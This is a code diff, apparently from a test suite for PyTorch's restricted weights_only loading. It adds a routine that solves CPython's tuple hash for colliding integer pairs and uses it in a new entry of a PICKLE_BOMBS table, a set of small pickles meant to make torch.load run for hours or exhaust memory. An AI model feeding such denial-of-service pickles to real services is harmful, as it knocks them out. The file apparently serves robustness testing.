@@ -64,6 +64,27 @@ def _shared_tuples(levels: int) -> bytes:
     return ops
 
 
+def _colliding_pairs(count: int) -> list[tuple[int, int]]:
+    """Pairs of small ints (each hashing to itself) whose 2-tuples all share one hash: CPython's
+    tuple hash (xxHash's lanes) solved for the second item."""
+    mod, p1, p2, p5 = 2**64, 11400714785074694791, 14029467366897019727, 2870177450012600261
+
+    def rotate_left(x: int, r: int) -> int:
+        return ((x << r) | (x >> (64 - r))) % mod
+
+    before_second = rotate_left(0x123456789ABCDEF * pow(p1, -1, mod) % mod, 64 - 31)  # the lane it must reach
+    undo_p2 = pow(p2, -1, mod)
+    pairs, first = [], 1
+    while len(pairs) < count:
+        after_first = rotate_left((p5 + first * p2) % mod, 31) * p1 % mod
+        second = (before_second - after_first) * undo_p2 % mod
+        second = second - mod if second >= mod // 2 else second
+        if abs(second) <= 2**61 - 2 and second != -1:
+            pairs.append((first, second))
+        first += 1
+    return pairs
+
+
 PICKLE_BOMBS: dict[str, bytes] = {
     # each calls only what torch.load(weights_only=True) allows, and runs for hours or allocates without end
     "set-over-a-stride-0-array": (
@@ -75,8 +96,10 @@ PICKLE_BOMBS: dict[str, bytes] = {
     "dict-key-of-shared-tuples": b"}" + _shared_tuples(60) + b"Ns",
     "dict-keys-that-collide": b"}(" + b"".join(_int(k * (2**61 - 1) + 7) + b"N" for k in range(1, 200_000)) + b"u",
     "set-of-shared-tuples": _global("builtins.set") + _shared_tuples(60) + b"\x85\x85R",
+    "dict-keys-of-colliding-tuples": b"}(" + b"".join(_int(a) + _int(b) + b"\x86N" for a, b in _colliding_pairs(60_000))
+                                     + b"u",
 }
-"""Pickles of under 200 KB for ``data.pkl``, by what they do to ``torch.load(weights_only=True)``."""
+"""Pickles of under 2 MB for ``data.pkl``, by what they do to ``torch.load(weights_only=True)``."""
 
 
 def with_pickle(path: Path, bomb: str) -> Path:
